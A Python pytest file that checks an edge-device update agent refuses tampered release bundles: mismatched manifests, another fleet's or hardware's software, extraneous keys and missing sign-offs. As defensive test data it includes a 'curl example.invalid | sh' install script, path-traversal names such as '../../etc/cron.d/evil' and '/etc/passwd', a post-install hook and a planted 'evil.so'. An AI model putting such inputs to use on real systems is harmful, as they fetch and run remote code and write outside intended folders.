"""Mix-and-match, wrong software, extraneous dependencies, a missing sign-off."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from infra.digest import canonical_json, digest_bytes
from tests.infra.edge.agent.signing import seal
from tests.infra.edge.agent.world import DEVICE, Device, Publisher, bundle_files, refuses, settled

Fleet = tuple[Publisher, Device, str]


@pytest.fixture
def fleet(tmp_path: Path) -> Fleet:
    return settled(tmp_path)


def _resign_desired(publisher: Publisher, document: Any) -> None:
    publisher.put(publisher.key("desired"), seal("desired", document, publisher.keys["fleet"]))


class TestMixAndMatch:
    @pytest.mark.parametrize("name", ["model.onnx", "golden/inputs.f32", "golden/outputs.json"])
    def test_another_file_of_the_same_size(self, fleet: Fleet, name: str) -> None:
        publisher, device, _ = fleet
        files = bundle_files(number=6)
        if name == "golden/inputs.f32":
            files[name] = files[name][:-1] + b"\1"
        if name == "golden/outputs.json":
            files[name] += b" "  # a file that the running release has too is not fetched at all
        publisher.want(publisher.release(6, files))
        publisher.put(f"blobs/sha256/{digest_bytes(files[name])}", bytes(len(files[name])))
        refuses(device, "MixAndMatch", says=name)
        assert list((device.config.folder / "downloads").iterdir()) == [], "nothing of it is kept"

    def test_a_genuine_manifest_of_another_release(self, fleet: Fleet) -> None:
        publisher, device, first = fleet
        digest = publisher.release(6)
        publisher.want(digest)
        other = (publisher.folder / f"manifests/{first}.json").read_bytes()
        publisher.put(f"manifests/{digest}.json", other)
        refuses(device, "MixAndMatch")

    def test_a_genuine_release_document_of_another_release(self, fleet: Fleet) -> None:
        publisher, device, first = fleet
        digest = publisher.release(6)
        publisher.want(digest)
        other = (publisher.folder / publisher.key(f"releases/{first}")).read_bytes()
        publisher.put(publisher.key(f"releases/{digest}"), other)
        refuses(device, "MixAndMatch", says=first[:12])

    def test_a_release_document_that_vouches_for_another_manifest(self, fleet: Fleet) -> None:
        """Size and SHA-256 are right, but the manifest is not that of the digest that the desired state names."""
        publisher, device, _ = fleet
        digest, _ = publisher.publish_bundle(bundle_files(number=6))
        _, other = publisher.publish_bundle(bundle_files(number=7))
        document = publisher.release_document(digest, other, 6)
        publisher.put(
            publisher.key(f"releases/{digest}"), seal("release", document, publisher.keys["release"])
        )
        publisher.put(f"manifests/{digest}.json", other)
        publisher.signoff(digest)
        publisher.want(digest)
        refuses(device, "MixAndMatch", says="manifest of release")

    def test_a_desired_state_whose_root_is_withheld(self, fleet: Fleet) -> None:
        publisher, device, digest = fleet
        publisher.want(digest, root=2)
        refuses(device, "MixAndMatch", says="root 2")


class TestWrongSoftware:
    def test_another_fleets_desired_state(self, fleet: Fleet) -> None:
        publisher, device, digest = fleet
        publisher.want(digest, fleet="another-ward")
        refuses(device, "WrongSoftware", says="another-ward")

    def test_another_fleets_release(self, fleet: Fleet) -> None:
        publisher, device, _ = fleet
        publisher.want(publisher.release(6, fleet="another-ward"))
        refuses(device, "WrongSoftware")

    def test_another_fleets_root(self, fleet: Fleet) -> None:
        publisher, device, _ = fleet
        publisher.publish_root(fleet="another-ward")
        refuses(device, "WrongSoftware")

    def test_other_hardware(self, fleet: Fleet) -> None:
        publisher, device, _ = fleet
        publisher.want(publisher.release(6, hardware=["jetson-orin", "jetson-xavier"]))
        refuses(device, "WrongSoftware", says="jetson-orin")
        publisher.want(publisher.release(7, hardware=["jetson-orin", "jetson-nano"]))
        assert device.refusal() is None

    def test_another_devices_ring_changes_nothing_here(self, fleet: Fleet) -> None:
        publisher, device, digest = fleet
        publisher.want(publisher.release(6), devices=["cot-70", "cot"])
        assert device.refusal() is None
        assert device.current == digest

    def test_another_format_of_bundle(self, fleet: Fleet) -> None:
        publisher, device, _ = fleet
        publisher.want(publisher.release(6, manifest=lambda m: m.update(format="cryfed-bundle/2")))
        refuses(device, "WrongSoftware")

    @pytest.mark.parametrize("missing", ["rings", "root", "version", "expires", "fleet", "type"])
    def test_a_desired_state_without_a_key(self, fleet: Fleet, missing: str) -> None:
        publisher, device, digest = fleet
        document = publisher.desired_document({"release": digest, "devices": [DEVICE]})
        del document[missing]
        _resign_desired(publisher, document)
        refuses(device, "WrongSoftware", says=f"{missing} is missing")

    def test_a_document_with_blanks(self, fleet: Fleet) -> None:
        publisher, device, digest = fleet
        document = publisher.desired_document({"release": digest, "devices": [DEVICE]})
        _resign_desired(publisher, json.dumps(document).encode())
        refuses(device, "WrongSoftware", says="canonical")

    def test_a_key_given_twice(self, fleet: Fleet) -> None:
        publisher, device, digest = fleet
        body = canonical_json(publisher.desired_document({"release": digest, "devices": [DEVICE]}))
        _resign_desired(publisher, body.replace(b'{"expires"', b'{"version":1,"expires"'))
        refuses(device, "WrongSoftware", says="twice")


class TestExtraneous:
    @pytest.mark.parametrize("kind", ["root", "desired", "release", "signoff"])
    def test_a_key_that_the_document_should_not_have(self, fleet: Fleet, kind: str) -> None:
        publisher, device, _ = fleet
        extra = {"install_script": "curl example.invalid | sh"}
        if kind == "root":
            publisher.publish_root(**extra)
        digest = publisher.release(6, **(extra if kind == "release" else {}))
        if kind == "signoff":
            publisher.signoff(digest, **extra)
        publisher.want(digest, **(extra if kind == "desired" else {}))
        refuses(device, "Extraneous", says="install_script")

    def test_a_device_in_two_rings(self, fleet: Fleet) -> None:
        publisher, device, first = fleet
        second = publisher.release(6)
        rings = [{"release": first, "devices": [DEVICE]}, {"release": second, "devices": ["x", DEVICE]}]
        _resign_desired(publisher, publisher.desired_document(*rings))
        refuses(device, "Extraneous", says=DEVICE)

    @pytest.mark.parametrize(
        "name",
        [
            "../../etc/cron.d/evil",
            "/etc/passwd",
            "golden/../../evil",
            "./model.onnx",
            "a//b",
            "a/",
            "back\\slash",
            "new\nline",
            "manifest.json",
            "..",
            "...",
            "x" * 300,
            "ümlaut",
        ],
    )
    def test_a_file_name_that_leads_out(self, fleet: Fleet, name: str) -> None:
        publisher, device, _ = fleet
        entry = {"sha256": "a" * 64, "size": 1}
        before = sorted(p for p in device.folder.rglob("*") if "reports" not in p.parts)
        publisher.want(publisher.release(6, manifest=lambda m: m["files"].update({name: entry})))
        refuses(device, "Extraneous")
        assert sorted(p for p in device.folder.rglob("*") if "reports" not in p.parts) == before

    def test_a_name_that_is_file_and_folder(self, fleet: Fleet) -> None:
        publisher, device, _ = fleet
        entry = {"sha256": "a" * 64, "size": 1}
        publisher.want(publisher.release(6, manifest=lambda m: m["files"].update({"golden": entry})))
        refuses(device, "Extraneous")

    @pytest.mark.parametrize(
        "change",
        [
            lambda m: m.update(post_install="evil.sh"),
            lambda m: m["files"]["model.onnx"].update(mode="0777"),
        ],
        ids=["manifest", "file"],
    )
    def test_a_key_that_the_manifest_should_not_have(
        self, fleet: Fleet, change: Callable[[Any], None]
    ) -> None:
        publisher, device, _ = fleet
        publisher.want(publisher.release(6, manifest=change))
        refuses(device, "Extraneous")

    def test_a_file_that_lay_in_the_slot_is_gone(self, fleet: Fleet) -> None:
        publisher, device, _ = fleet
        planted = device.config.folder / "slots/b/bundle/plugins"
        planted.mkdir(parents=True)
        (planted / "evil.so").write_bytes(b"\x7fELF")
        publisher.want(publisher.release(6))
        assert device.refusal() is None
        found = {p.name for p in (device.config.folder / "current" / "bundle").rglob("*") if p.is_file()}
        assert found == {"manifest.json", "model.onnx", "inputs.f32", "outputs.json", "tensorrt.json"}


class TestNoSignOff:
    def test_none_at_all(self, fleet: Fleet) -> None:
        publisher, device, _ = fleet
        digest = publisher.release(6)
        (publisher.folder / publisher.key(f"signoffs/{digest}")).unlink()
        publisher.want(digest)
        refuses(device, "NoSignOff")
        publisher.signoff(digest)
        assert device.refusal() is None

    @pytest.mark.parametrize("role", ["release", "fleet", "root"])
    def test_signed_by_another_role(self, fleet: Fleet, role: str) -> None:
        publisher, device, _ = fleet
        digest = publisher.release(6)
        publisher.signoff(digest, keys=publisher.keys[role])
        publisher.want(digest)
        refuses(device, "NoSignOff")

    def test_of_another_release(self, fleet: Fleet) -> None:
        publisher, device, first = fleet
        digest = publisher.release(6)
        other = (publisher.folder / publisher.key(f"signoffs/{first}")).read_bytes()
        publisher.put(publisher.key(f"signoffs/{digest}"), other)
        publisher.want(digest)
        refuses(device, "NoSignOff", says=first[:12])

    def test_for_another_fleet(self, fleet: Fleet) -> None:
        publisher, device, _ = fleet
        digest = publisher.release(6)
        publisher.signoff(digest, fleet="another-ward")
        publisher.want(digest)
        refuses(device, "NoSignOff", says="another-ward")

    def test_nothing_is_downloaded_before_it_is_there(self, fleet: Fleet) -> None:
        publisher, device, _ = fleet
        files = bundle_files(number=6)
        digest = publisher.release(6, files)
        (publisher.folder / publisher.key(f"signoffs/{digest}")).unlink()
        for data in files.values():
            (publisher.folder / f"blobs/sha256/{digest_bytes(data)}").unlink()
        publisher.want(digest)
        refuses(device, "NoSignOff")
